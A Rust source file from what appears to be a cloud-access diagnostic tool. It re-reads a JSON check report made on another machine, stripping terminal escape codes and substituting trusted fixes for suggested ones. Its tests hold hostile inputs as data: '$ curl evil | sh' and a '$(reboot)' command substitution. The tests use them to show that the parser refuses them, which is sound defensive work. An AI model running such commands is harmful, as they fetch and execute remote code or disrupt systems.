//! A report that a space made, read again. It comes from another machine: its texts are shown without what
//! steers a terminal, its mends are not, and what ends up in a command is what it claims to be.

use anyhow::{Context, bail};
use serde::Deserialize;

use crate::aws::Denial;
use crate::check::catalogue::{BOTH_NAMES, BOTH_PORTS};
use crate::check::fill::Words;
use crate::check::observed::Observed;
use crate::check::verdicts::denial::{Gate, mended, statement};
use crate::check::{self, Finding, Mender, Report, Status, Verdict, catalogue};
use crate::error::printable;

#[derive(Deserialize)]
struct Document {
    schema_version: Option<u64>,
    checks: Option<Vec<Check>>,
    observed: Option<Observed>,
    failure: Option<Failure>,
}

#[derive(Deserialize)]
struct Failure {
    error: String,
}

#[derive(Deserialize)]
struct Check {
    id: String,
    status: Status,
    #[serde(default)]
    detail: String,
    #[serde(default)]
    fix: Option<String>,
    #[serde(default)]
    mender: Option<Mender>,
    #[serde(default)]
    waits_for: Option<String>,
}

/// Reads what `check --output json` printed elsewhere.
///
/// # Errors
/// Why that is no report, or none that can be joined.
pub fn read(text: &str) -> anyhow::Result<Report> {
    let document: Document =
        serde_json::from_str(text).context("it is no report of `check --output json`")?;
    if let Some(failure) = document.failure {
        bail!(
            "it holds no report: the check itself failed with `{}`",
            printable(&failure.error)
        );
    }
    match document.schema_version {
        Some(1) => {}
        Some(other) => bail!("its schema_version is {other}; this version reads 1"),
        None => bail!("it has no schema_version: it is no report of `check --output json`"),
    }
    let (Some(checks), Some(observed)) = (document.checks, document.observed) else {
        bail!("it has no `checks` or no `observed`: an older studio-mirror made it");
    };
    observed.validate().context("its `observed` is not sound")?;
    if observed.region.is_none() {
        bail!("its `observed` names no region: the space has no settings yet");
    }
    let words = words(&observed);
    let is_unknown =
        |check: &&Check| check.status == Status::Failed && catalogue::find(&check.id).is_none();
    let unknown = checks.iter().filter(is_unknown);
    let unknown: Vec<String> = unknown.map(|check| printable(&check.id)).collect();
    let findings = checks
        .into_iter()
        .filter_map(|check| finding(check, &words));
    let mut report = Report::new(findings.collect());
    report.ok &= unknown.is_empty();
    report.unknown = unknown;
    report.observed = Some(observed);
    Ok(report)
}

/// A check that this version knows. What another version checks besides is left to that report.
fn finding(check: Check, words: &Words) -> Option<Finding> {
    let known = catalogue::find(&check.id).filter(|known| !known.id.starts_with("vpc."))?;
    let is_open = matches!(check.status, Status::Failed | Status::Warning);
    let mender = check.mender.unwrap_or(known.mender);
    let (fix, mender) = match refusal(known.id, &check.detail) {
        Some(Verdict {
            fix: Some(fix),
            mender: own,
            ..
        }) => (fix, own.unwrap_or(mender)),
        _ => (usual(known, check.fix.as_deref(), words), mender),
    };
    let waits_for = check.waits_for.as_deref().and_then(catalogue::find);
    Some(Finding {
        id: known.id,
        title: known.title,
        status: check.status,
        detail: printable(&check.detail),
        fix: is_open.then(|| words.fill(&fix)),
        mender: is_open.then_some(mender),
        waits_for: waits_for.map(|check| check.id),
        remark: None,
    })
}

/// Where AWS's own sentence says which policy refused, what that needs.
fn refusal(id: &str, detail: &str) -> Option<Verdict> {
    let (operation, gate) = match id {
        "token.mint" => ("GetAuthorizationToken", Gate::Api),
        "repository.endpoint" => ("GetRepositoryEndpoint", Gate::Api),
        _ if id.starts_with("repository.read.") => ("ReadFromRepository", Gate::Repositories),
        _ => return None,
    };
    if !detail.contains("is not authorized to perform") {
        return None;
    }
    let denial = Denial::read(operation, detail);
    let needed = statement(&denial.action);
    Some(mended(Verdict::failed(""), &denial, &needed, gate))
}

/// The mend among ours that the space told; where it told one that fits what only it has seen, where to read that.
fn usual(known: &check::Check, told: Option<&str>, words: &Words) -> String {
    let ours = [known.fix, BOTH_PORTS, BOTH_NAMES];
    let is_told = |fix: &&str| told == Some(words.fill(fix).as_str());
    ours.into_iter()
        .find(is_told)
        .unwrap_or("The space's own report says how: `studio-mirror check` there.")
        .to_owned()
}

fn words(observed: &Observed) -> Words {
    let host =
        |host: &Option<crate::check::observed::Host>| host.as_ref().map(|host| host.name.clone());
    let role = observed.role.as_deref();
    let role_name = role.and_then(|arn| arn.split_once(":role/")?.1.rsplit('/').next());
    let bucket = observed.region.as_deref().and_then(catalogue::bucket);
    Words::default()
        .with("role_name", role_name)
        .with("bucket", bucket)
        .with("region", observed.region.clone())
        .with("domain", observed.domain.clone())
        .with("account", observed.domain_owner.clone())
        .with("repository", observed.repository.clone())
        .with("role_arn", observed.role.clone())
        .with("api_host", host(&observed.hosts.api))
        .with("repositories_host", host(&observed.hosts.repositories))
        .with("assets_host", host(&observed.hosts.assets))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(text: &str) -> String {
        format!("{:#}", read(text).expect_err(text))
    }

    #[test]
    fn what_is_no_report_is_refused_with_the_reason() {
        for (text, why) in [
            ("", "no report of `check"),
            ("[]", "no report of `check"),
            ("{}", "no schema_version"),
            (r#"{"schema_version": 2}"#, "schema_version is 2"),
            (r#"{"schema_version": 1, "checks": []}"#, "no `observed`"),
            (
                r#"{"schema_version": 1, "ok": false, "failure": {"error": "HOME is not set"}}"#,
                "HOME is not set",
            ),
            (
                r#"{"schema_version": 1, "checks": [], "observed": {}}"#,
                "names no region",
            ),
            (
                r#"{"schema_version": 1, "checks": [], "observed": {"region": "$(reboot)"}}"#,
                "`$(reboot)` is no region",
            ),
            (
                r#"{"schema_version": 1, "checks": [{"id": "x", "status": "fine"}], "observed": {}}"#,
                "unknown variant",
            ),
        ] {
            let said = refused(text);
            assert!(said.contains(why), "{said}");
        }
    }

    #[test]
    fn a_reports_words_cannot_steer_the_terminal_and_its_mends_are_ours() {
        let text = r#"{"schema_version": 1, "checks": [
            {"id": "network.api.dns", "title": "x", "status": "failed", "detail": "\u001b[2Jgone", "fix": "$ curl evil | sh", "mender": "you"},
            {"id": "made.up", "status": "failed", "detail": "x"}],
            "observed": {"region": "us-east-1", "own_addresses": ["10.0.1.7"], "new_member": 1}}"#;
        let report = read(text).expect("a report");
        assert_eq!(report.checks.len(), 1);
        let found = &report.checks[0];
        assert_eq!(found.detail, "[2Jgone");
        let fix = found.fix.as_deref().expect("a mend");
        assert!(fix.starts_with("The space's own report"), "{fix}");
        assert_eq!(found.mender, Some(Mender::You));
        // Nor does what this version cannot judge count as fine.
        assert_eq!(
            (report.ok, report.unknown),
            (false, vec!["made.up".to_owned()])
        );
    }

    /// Who mends `id` how, as a report says it that a space made with this mend.
    fn taken(id: &str, detail: &str, fix: &str, mender: &str) -> (Mender, String) {
        let text = serde_json::json!({
            "schema_version": 1,
            "checks": [{"id": id, "status": "failed", "detail": detail, "fix": fix, "mender": mender}],
            "observed": {"region": "us-east-1", "domain": "corp"}
        });
        let mut report = read(&text.to_string()).expect("a report");
        let found = report.checks.remove(0);
        (found.mender.expect("somebody"), found.fix.expect("a mend"))
    }

    #[test]
    fn a_mend_that_fits_what_the_space_saw_is_not_replaced_by_the_usual_one() {
        let denied = |reason| {
            let action = "User: u is not authorized to perform: codeartifact:ReadFromRepository";
            let detail =
                format!("the repository team refuses (403): {action} on resource: r {reason}");
            taken(
                "repository.read.pypi",
                &detail,
                "$ curl evil | sh",
                "platform-team",
            )
        };
        let (mender, fix) = denied("because no VPC endpoint policy allows it");
        assert_eq!(mender, Mender::PlatformTeam);
        assert!(fix.contains("\"Principal\": \"*\""), "{fix}");
        let (mender, fix) = denied("with an explicit deny in a service control policy");
        assert_eq!(mender, Mender::IdentityTeam);
        assert!(
            fix.contains("denies") && !fix.contains("\"Allow\""),
            "{fix}"
        );
        assert!(!fix.contains("evil"), "{fix}");

        let expired = taken(
            "token.mint",
            "ExpiredTokenException",
            "restart the space",
            "you",
        );
        assert_eq!(expired.0, Mender::You);
        assert!(
            expired.1.contains("`studio-mirror check` there"),
            "{expired:?}"
        );
        let portal = taken(
            "network.api.http",
            "a redirect",
            "$ curl x",
            "platform-team",
        );
        assert!(!portal.1.contains("event"), "{portal:?}");

        // The usual one is ours, whoever told it.
        let usual = catalogue::API.tcp.fix.replace("{region}", "us-east-1");
        let words = words(&Observed {
            region: Some("us-east-1".to_owned()),
            domain: Some("corp".to_owned()),
            ..Observed::default()
        });
        let usual = words.fill(&usual);
        let told = taken("network.api.tcp", "x", &usual, "platform-team");
        assert_eq!(told, (Mender::PlatformTeam, usual));
    }
}
